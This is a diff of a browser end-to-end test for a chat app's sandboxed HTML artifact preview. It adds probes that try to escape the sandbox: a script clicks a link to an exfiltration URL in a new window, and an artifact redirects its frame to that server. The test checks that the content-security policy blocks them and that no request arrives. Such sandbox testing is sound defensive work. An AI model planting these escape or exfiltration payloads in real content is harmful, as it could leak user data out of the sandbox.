@@ -106,6 +106,7 @@ attempt('form', () => {
   form.submit();
   return 'submitted';
 });
+attempt('link to a new window', () => { const a = document.createElement('a'); a.href = '${exfilUrl}/link'; a.target = '_blank'; document.body.append(a); a.click(); return 'clicked'; });
 attempt('forged report', () => { parent.postMessage({ type: 'height', height: 1e12 }, '*'); return 'posted'; });
 setTimeout(() => {
   document.getElementById('log').textContent = found.join('\\n') + '\\nDONE';
@@ -206,10 +207,19 @@ for (const journey of JOURNEYS) {
       expect(frameHeight).toBeGreaterThan(0);
       expect(frameHeight).toBeLessThanOrEqual(640);
 
-      // The app keeps working: another message gets its reply.
-      server.setScript(textStream('Still here.', { chunkSize: 4 }));
+      // The app keeps working: another message gets its reply, with an artifact that navigates its
+      // own frame out (the sandbox document's frame-src refuses it: a console line says so).
+      const framingRefusals = () => consoleLines.filter((line) => line.startsWith(`Framing '${exfil.url}/'`) && line.includes("frame-src 'none'")).length;
+      const leaving = `<p>Leaving</p><script>location.href = '${exfil.url}/self-navigation';</script>`;
+      server.setScript(textStream(`Still here.\n\n\`\`\`html\n${leaving}\n\`\`\`\n`, { chunkSize: 16 }));
       await send('Are you there?', journey.touch);
       await reply().getByText('Still here.').waitFor();
+      const refusedBefore = framingRefusals();
+      expect(refusedBefore).toBeGreaterThan(0);
+      if (journey.touch) await previewButton().tap();
+      else await previewButton().click();
+      // Chromium names only the origin it refused to frame: one refusal more than the first artifact's <iframe> caused.
+      await expect.poll(() => framingRefusals()).toBeGreaterThan(refusedBefore);
 
       // Nothing reached the exfiltration server; the address is the same; no window opened.
       expect(exfil.requests).toEqual([]);
